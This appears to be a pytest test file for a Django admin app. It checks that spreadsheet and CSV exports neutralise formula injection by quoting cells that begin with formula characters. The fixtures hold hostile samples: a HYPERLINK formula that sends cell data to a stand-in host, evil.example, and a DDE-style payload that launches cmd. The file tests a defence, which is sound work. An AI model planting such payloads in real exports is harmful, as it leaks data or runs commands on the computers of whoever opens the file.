"""Admin exports never turn what a stranger typed into a live formula (issue 13, point 5): a cell or CSV field
starting with =, +, -, @, a tab or a carriage return gets a leading quote; real numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from programs.exports import neutralise
from programs.services import audit_record
from tests.factories import EnterpriseFactory, coordinator, officer, region_tree

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows())


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def booby_trapped(db):
    return EnterpriseFactory(region=region_tree("330212")["village"], name=FORMULA, industry="+86 574 1234")


def test_an_enterprise_name_with_a_formula_is_plain_text_in_the_excel_export(client, booby_trapped):
    client.force_login(officer())
    rows = xlsx_rows(client.get("/admin/programs/enterprise/?_export=xlsx"))
    name, industry = rows[1][0], rows[1][3]
    assert name.value == "'" + FORMULA
    assert name.data_type == "s"  # a string cell, not "f"
    assert industry.value == "'+86 574 1234"
    assert not any(cell.data_type == "f" for row in rows for cell in row)


def test_an_enterprise_name_with_a_formula_is_quoted_in_the_csv_export(client, booby_trapped):
    client.force_login(officer())
    rows = csv_rows(client.get("/admin/programs/enterprise/?_export=csv"))
    assert rows[1][0] == "'" + FORMULA
    assert rows[1][3] == "'+86 574 1234"


def test_numbers_stay_numbers_and_text_after_them_is_quoted(client):
    user = coordinator()
    enterprise = EnterpriseFactory(region=region_tree("330212")["village"])
    audit_record(obj=enterprise, field="grade", old="@SUM(1+1)*cmd|' /C calc'!A0", new="-2+3", actor=user)
    client.force_login(user)
    rows = xlsx_rows(client.get("/admin/programs/auditentry/?_export=xlsx"))
    object_id = next(cell for cell in rows[1] if cell.value == enterprise.pk)
    assert object_id.data_type == "n"  # the object id column: a number, not text
    values = [cell.value for cell in rows[1]]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert "'-2+3" in values
    text = csv_rows(client.get("/admin/programs/auditentry/?_export=csv"))[1]
    assert str(enterprise.pk) in text and "'-2+3" in text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("周女士", "周女士"),
        ("a=b", "a=b"),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (3.25, 3.25),
        ("", ""),
    ],
)
def test_neutralise_quotes_only_text_that_starts_a_formula(value, expected):
    assert neutralise(value) == expected
    assert type(neutralise(value)) is type(expected)
